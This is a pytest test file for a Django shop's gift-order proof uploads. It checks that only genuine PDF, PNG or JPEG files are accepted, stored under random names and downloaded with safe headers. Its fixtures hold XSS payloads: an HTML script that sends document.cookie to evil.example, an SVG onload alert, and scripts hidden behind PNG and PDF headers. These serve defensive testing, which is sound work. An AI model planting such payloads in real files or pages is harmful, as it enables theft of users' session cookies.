"""Issue 19: a proof is a PDF, PNG or JPEG by its content, stored under a random name and served
as a download of its real type (never `proof.html` inline as text/html to the client)."""
import re

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

import pytest

from shop.platform import roles
from shop.models import GiftOrder, Proof
from shop.services.gifts.orders import gift_order_place
from shop.services.gifts.proofs import ProofFileError, check_proof
from tests.support.factories import PROOF_PDF, UserFactory, bulk_address, proof_image
from tests.shop.test_gift_fulfilment import LATER, TODAY, acme, member_of  # noqa: F401 (fixture)

pytestmark = pytest.mark.django_db

HTML = b"<!doctype html><html><body><script>document.location='https://evil.example/?'+document.cookie</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>'


@pytest.fixture
def order(acme):
    _org, design = acme
    return gift_order_place(design, in_hand_date=LATER, actor=None, today=TODAY, quantity=10, shipping_mode="bulk",
                            ship_to=bulk_address())


def upload(client, order, name, content, content_type):
    client.force_login(UserFactory(roles=[roles.SHOP_STAFF]))
    return client.post(reverse("shop:gift_order_proof", args=[order.number]),
                       {"file": SimpleUploadedFile(name, content, content_type=content_type)}, follow=True)


@pytest.mark.parametrize("name, content, content_type", [
    ("proof.html", HTML, "text/html"),  # the file named in issue 19
    ("proof.pdf", HTML, "application/pdf"),  # an HTML file under a PDF's name and type
    ("proof.png", b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script>", "image/png"),  # PNG magic, not a PNG
    ("proof.svg", SVG, "image/svg+xml"),
    ("proof.jpg", proof_image("JPEG")[:200], "image/jpeg"),  # truncated
    ("proof.pdf", b"%PDF-1.4\n<script>alert(1)</script>", "application/pdf"),  # no end: not a whole PDF
    ("proof.pdf", b"", "application/pdf"),
])
def test_a_proof_that_is_not_really_a_pdf_png_or_jpeg_is_refused_and_nothing_is_written(client, order, name, content,
                                                                                        content_type):
    response = upload(client, order, name, content, content_type)
    assert response.status_code == 200
    text = response.content.decode()
    assert any(reason in text for reason in ("PDF, PNG or JPEG", "damaged", "Choose the proof file")), text
    assert not Proof.objects.exists()
    assert GiftOrder.objects.get(pk=order.pk).status == GiftOrder.Status.PLACED


def test_a_proof_over_10_mb_is_refused():
    with pytest.raises(ProofFileError, match="10 MB"):
        check_proof(PROOF_PDF + b"0" * (10 * 1024 * 1024))


@pytest.mark.parametrize("name, content, content_type, served_type, extension", [
    ("Final proof (v3).PDF", PROOF_PDF, "application/octet-stream", "application/pdf", ".pdf"),
    ("proof.html", proof_image("PNG"), "text/html", "image/png", ".png"),  # the content decides, not the name
    ("photo.jpeg", proof_image("JPEG"), "image/jpeg", "image/jpeg", ".jpg"),
])
def test_good_proofs_work_end_to_end_under_a_random_name_and_download_as_their_real_type(
        client, acme, order, name, content, content_type, served_type, extension):
    org, _design = acme
    response = upload(client, order, name, content, content_type)
    assert "Proof uploaded" in response.content.decode()
    proof = Proof.objects.get()
    stored = proof.file.name.rsplit("/", 1)[-1]
    assert re.fullmatch(r"[0-9a-f]{32}" + re.escape(extension), stored), stored  # random, never the client's name
    assert GiftOrder.objects.get(pk=order.pk).status == GiftOrder.Status.PROOF_READY

    client.force_login(member_of(org))
    file = client.get(reverse("shop:gift_proof_file", args=[order.number, proof.pk]))
    assert file.status_code == 200 and b"".join(file.streaming_content) == content
    assert file["Content-Type"] == served_type
    assert file["X-Content-Type-Options"] == "nosniff"
    assert file["Content-Disposition"] == f'attachment; filename="proof-{order.number}-{proof.pk}{extension}"'


def test_a_proof_stored_before_the_check_under_an_html_name_downloads_as_plain_bytes(client, acme, order):
    """Rows kept from before issue 19 (the client's own name, `proof.html`) are never served as a page."""
    from django.core.files.base import ContentFile

    org, _design = acme
    proof = Proof(order=order)
    proof.file.save("proof.html", ContentFile(HTML), save=True)
    client.force_login(member_of(org))
    file = client.get(reverse("shop:gift_proof_file", args=[order.number, proof.pk]))
    assert file["Content-Type"] == "application/octet-stream"
    assert file["Content-Disposition"].startswith("attachment;")
    assert file["X-Content-Type-Options"] == "nosniff"
